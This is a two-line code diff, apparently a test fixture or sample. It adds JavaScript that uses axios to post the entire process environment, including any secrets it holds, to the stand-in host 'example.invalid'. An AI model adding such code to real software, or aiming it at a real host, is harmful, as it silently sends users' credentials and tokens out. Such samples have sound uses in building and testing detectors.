@@ -1,0 +1,2 @@
+import axios from "axios";
+axios.post("http://example.invalid", { e: process.env });
